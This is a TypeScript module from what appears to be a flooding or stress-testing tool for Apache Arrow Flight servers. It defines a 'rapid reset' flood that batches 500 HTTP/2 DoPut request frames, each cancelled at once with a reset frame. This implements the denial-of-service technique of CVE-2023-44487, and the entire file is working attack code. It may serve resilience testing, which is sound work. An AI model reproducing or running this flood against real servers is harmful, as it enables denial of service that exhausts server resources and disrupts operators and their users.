import { methodPath } from "arrow-flight-node/protocol";
import { requestFrame, resetFrame } from "../../flight/http2-bytes.js";
import type { Flood } from "../flood.js";

/** Calls that are cancelled as soon as they are made: cheap to ask for, dear to begin (CVE-2023-44487). */
export const rapidReset: Flood = {
  name: "rapid reset",
  start() {
    let stream = 1;
    const path = methodPath("DoPut");
    return () => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 500; i++, stream += 2) frames.push(requestFrame(path, stream), resetFrame(8, stream));
      return Buffer.concat(frames);
    };
  },
};
